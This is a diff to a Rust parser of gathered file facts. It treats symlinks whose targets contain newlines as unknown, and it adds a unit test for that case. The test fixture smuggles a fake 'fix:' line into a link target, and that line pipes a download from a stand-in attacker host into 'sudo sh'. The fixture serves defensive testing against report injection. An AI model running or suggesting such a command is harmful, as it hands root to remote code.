@@ -193,6 +193,8 @@ impl RawFacts {
         // imitates head's header for another file makes that file come twice or out of
         // order: an error, never a fact.
         let mut announced: std::collections::VecDeque<&str> = std::collections::VecDeque::new();
+        // Links whose target holds a newline.
+        let mut unframed: Vec<&str> = Vec::new();
         for record in &records {
             let name = record.args.as_str();
             match &record.kind {
@@ -227,6 +229,11 @@ impl RawFacts {
                     raw.file(name, FileState::Directory, None);
                 }
                 RecordKind::Error => raw.file(name, FileState::Unreadable, None),
+                // A target with a newline in it is no path any configuration names: the
+                // link is unknown (below), never a target that spans lines.
+                RecordKind::Link | RecordKind::Canon if record.line().contains('\n') => {
+                    unframed.push(name);
+                }
                 RecordKind::Link => raw.entry(name).symlink_target = Some(record.line()),
                 // readlink -f prints nothing where the link's target directory is
                 // missing: no canonical path, not "".
@@ -259,6 +266,12 @@ impl RawFacts {
             return Err(FrameError::Truncated {
                 records: records.len(),
             });
+        }
+        for name in unframed {
+            raw.file(name, FileState::Unreadable, None);
+            let entry = raw.entry(name);
+            entry.symlink_target = None;
+            entry.canonical = None;
         }
         for file in raw.files.values_mut() {
             shared.share(file);
@@ -874,6 +887,35 @@ mod tests {
         assert_eq!(f.canonical, None);
         // In a .d directory such a link still overrides the vendor file of its name.
         assert_eq!(f.config_canonical().as_deref(), Some("/dev/null"));
+    }
+
+    /// A link whose target holds a newline (`ln -s "$(printf '/run/q\n  fix: …')"`) is
+    /// unknown: its target once reached reports whole, the lines after the newline reading
+    /// as the report's own.
+    #[test]
+    fn a_link_target_with_a_newline_is_unknown() {
+        let n = "abc";
+        let target = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh";
+        let mut out = frame(
+            n,
+            &[
+                ("begin", "x", b""),
+                ("read", "/etc/resolv.conf", b""),
+                ("link", "/etc/resolv.conf", format!("{target}\n").as_bytes()),
+                ("canon", "/etc/resolv.conf", target.as_bytes()),
+                ("link", "/etc/hosts", b"/run/hosts\n"),
+                ("canon", "/etc/hosts", b"/run/hosts"),
+            ],
+        );
+        out.extend(batch(n, &[("/etc/resolv.conf", b"nameserver 1.1.1.1\n")]));
+        out.extend(frame(n, &[("end", "", b"")]));
+        let raw = RawFacts::parse(&out, n).expect("parses");
+        let f = raw.get("/etc/resolv.conf").expect("file");
+        assert_eq!(f.state, FileState::Unreadable);
+        assert_eq!((&f.symlink_target, &f.canonical), (&None, &None));
+        assert!(f.content.is_empty());
+        let hosts = raw.get("/etc/hosts").expect("file");
+        assert_eq!(hosts.symlink_target.as_deref(), Some("/run/hosts"));
     }
 
     /// The words of gather.sh as the shell splits them, comments left out and quotes
